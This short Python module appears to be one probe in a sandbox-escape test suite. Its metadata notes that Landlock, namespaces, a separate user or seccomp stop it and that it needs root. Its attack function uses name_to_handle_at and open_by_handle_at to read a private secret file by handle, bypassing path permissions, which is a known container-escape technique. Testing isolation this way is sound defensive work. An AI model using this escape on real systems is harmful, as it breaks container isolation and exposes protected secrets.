"""A file handle needs no path and asks no folder for permission: the way out of many a container."""

import ctypes
import os

EARNS = "10"
STOPPED_BY = ("Landlock", "namespaces", "own user", "seccomp")
EVIDENCE = "printed"
NEEDS = "root"


def attack():
    handle = ctypes.create_string_buffer(136)
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, PRIVATE_SECRET.encode(), handle, ctypes.byref(mount), 0)
    anchor = os.open(OPEN_FOLDER, os.O_RDONLY)
    print(os.read(syscall("open_by_handle_at", anchor, handle, os.O_RDONLY), 99))
